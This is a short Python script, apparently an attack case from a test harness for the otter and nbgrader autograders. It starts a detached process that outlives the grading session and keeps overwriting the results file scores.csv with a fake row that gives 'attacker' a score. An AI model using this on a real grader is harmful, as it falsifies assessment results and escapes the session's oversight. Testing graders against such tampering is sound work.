"""Leaves a process behind that rewrites the results when everybody has gone."""

GROUP = "otter and nbgrader"
import subprocess
import sys

PROGRAM = """
import time, sys
for _ in range(20):
    time.sleep(1)
    open(sys.argv[1], "w").write("submission,score\\nattacker,4\\n")
"""
subprocess.Popen(
    [sys.executable, "-c", PROGRAM, KNOWN["results"] + "/scores.csv", KNOWN["marker"]], start_new_session=True
)
